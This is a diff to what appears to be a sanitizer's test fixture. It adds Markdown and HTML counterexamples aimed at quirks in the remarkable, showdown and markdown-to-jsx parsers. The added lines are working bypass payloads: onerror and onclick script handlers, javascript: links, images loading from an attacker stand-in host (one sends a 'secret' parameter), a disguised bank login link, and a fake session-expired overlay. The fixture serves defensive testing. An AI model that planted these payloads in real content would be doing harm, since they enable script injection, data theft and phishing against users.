@@ -174,6 +174,38 @@ export const COUNTEREXAMPLES: readonly (readonly [ContentKind, string])[] = [
   ["images", "[^1]: ![a\n\n  ](//evil.example/x)"],
   ["images", "[^1]: ![a `]` b\n\n  ](//evil.example/x)"],
   ["links", "[^1]: [a\n\n  ](javascript:alert(1))"],
+  // remarkable writes a space for a no-break space, and a line feed for its symbol.
+  ["markup", "<img\u00A0src=//evil.example/x>"],
+  ["markup", "<img\u00A0src=//evil.example/x\u00A0onerror=alert(1)>"],
+  ["markup", "aa <b\u00A0onclick=alert(1)>b</b>"],
+  ["markup", "aa <b title=a\u00A0onclick=alert(1)>b</b>"],
+  ["markup", "aa <b title='a'\u00A0onclick=alert(1)>b</b>"],
+  ["markup", "<img\u2424src=//evil.example/x>"],
+  ["markup", "<dialog\u00A0open>text"],
+  ["images", "![a](\u2424//evil.example/x)"],
+  ["links", "[a](\u2424javascript:x)"],
+  // showdown allows white space before the address.
+  ["images", "![a] (//evil.example/x)"],
+  ["images", "![a]\t (//evil.example/x)"],
+  ["images", "![a] (https://evil.example/?d=secret)"],
+  ["links", "[a] (javascript:alert(1))"],
+  ["links", "[a] (https://bank.example@evil.example)"],
+  // An escaped bracket ends a label of markdown-to-jsx.
+  ["images", "![a\\](//evil.example/x)"],
+  ["links", "[a\\](javascript:alert(1))"],
+  // It reads an autolink over lines.
+  ["links", "<java\nscript:alert(1)>"],
+  ["links", "<https://bank.example\n@evil.example>"],
+  // A tag in a block of HTML goes on behind the block: its quotation ends in the address of a link.
+  ["markup", '<div title="\n\n[a](/onclick=alert(1)//)'],
+  ["markup", "<p lang='\n\n# a\n\n![b](/x)\n\n[a](/onclick=alert(1)//)"],
+  ["markup", '<!-- a --><div title="\n[a](/onclick=alert(1)//)'],
+  ["markup", '- <div title="\n\n[a](/onclick=alert(1)//)'],
+  ["markup", '- <div title="\n[a](/onclick=alert(1)//)'],
+  ["markup", '> <div title="\n\n[a](/onclick=alert(1)//)'],
+  ["markup", '<div class="fixed inset-0\n\n[a](/x)\n\nYour session ended'],
+  ["markup", "<div class=fixed\n\nYour session ended"],
+  ["markup", '<div class="fixed"\n\nYour session ended'],
 ];
 
 /** The same, where a page shows no less than an event: code that is never closed is text. */
